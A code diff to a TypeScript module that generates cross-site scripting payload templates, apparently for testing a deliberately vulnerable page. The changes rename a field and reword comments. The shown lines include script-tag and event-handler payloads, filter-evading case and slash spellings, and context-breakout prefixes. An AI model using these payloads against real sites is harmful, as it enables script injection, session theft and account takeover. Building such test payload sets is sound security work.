@@ -9,23 +9,23 @@ import {
   unquoted,
 } from './vulnerable-page'
 
-/** A text that runs `call` where it is taken for more than text; `site` is an address that only a payload asks. */
+/** A text that runs `call` if it is interpreted; `site` is an address that only payloads request. */
 export type PayloadTemplate = {
   family: string
-  careless: UnsafeTemplate
+  template: UnsafeTemplate
   text: (call: string, site: string) => string
 }
 
 const family = (
   name: string,
-  careless: UnsafeTemplate,
+  template: UnsafeTemplate,
   texts: PayloadTemplate['text'][],
-): PayloadTemplate[] => texts.map((text) => ({ family: name, careless, text }))
+): PayloadTemplate[] => texts.map((text) => ({ family: name, template, text }))
 
 const image = (call: string) => `<img src=x onerror=${call}>`
 const dot = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
 
-/** Elements that run something by themselves, or once they are touched. */
+/** Elements that run code when parsed, or on an event. */
 const elements = family('element', asMarkup, [
   (call) => `<script>${call}</script>`,
   image,
@@ -86,7 +86,7 @@ const elements = family('element', asMarkup, [
   (call) => `<a id=x tabindex=1 onfocusin=${call}>x</a>`,
 ])
 
-/** One way to run, written in all the ways that a filter overlooks. */
+/** One attack in every spelling that filters overlook. */
 const spellings = family('spelling', asMarkup, [
   (call) => `<img/src="x"/onerror=${call}>`,
   (call) => `<IMG SRC=x oNeRRoR=${call}>`,
@@ -153,11 +153,11 @@ const inside: PayloadTemplate['text'][] = [
   (call) => `<details/open/ontoggle=${call}>`,
   (call) => `<input onfocus=${call} autofocus>`,
 ]
-/** Out of every place that text can stand in, and then each of several elements. */
-const breakouts = ends.flatMap(([end, careless]) =>
+/** Breaks out of every context that text can be in, then adds one of several elements. */
+const breakouts = ends.flatMap(([end, template]) =>
   inside.map((text): PayloadTemplate => ({
     family: 'breakout',
-    careless,
+    template,
     text: (call, site) => end + text(call, site),
   })),
 )
